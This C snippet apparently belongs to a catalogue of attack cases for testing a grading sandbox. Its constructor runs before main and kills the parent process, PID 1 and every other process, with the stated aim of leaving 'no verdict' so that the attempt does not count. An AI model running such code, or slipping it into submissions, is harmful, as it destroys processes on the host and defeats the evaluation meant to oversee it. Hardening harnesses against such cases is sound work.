// ---
// tries: Sends SIGKILL to its parent, to the first process and to all others.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: be-pid-1
// ---
__attribute__((constructor)) static void attack(void) {
  kill(getppid(), SIGKILL);
  kill(1, SIGKILL);
  kill(-1, SIGKILL);
  attack_did("sent SIGKILL to all");
}
